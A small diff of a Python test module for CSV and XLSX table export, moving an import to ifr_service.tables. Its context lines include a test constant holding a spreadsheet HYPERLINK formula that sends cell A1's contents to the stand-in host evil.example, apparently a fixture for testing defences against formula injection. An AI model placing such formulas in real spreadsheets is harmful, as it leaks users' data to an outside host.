@@ -10,7 +10,7 @@ from datetime import date
 import pytest
 from openpyxl import load_workbook
 
-from ifr_service.cet.export import Table, as_csv, as_xlsx
+from ifr_service.tables import Table, as_csv, as_xlsx
 from tests.cet.test_import import GOOD, csv_lines, load
 
 LINK = '=HYPERLINK("https://evil.example/?x="&A1,"Cohort report")'
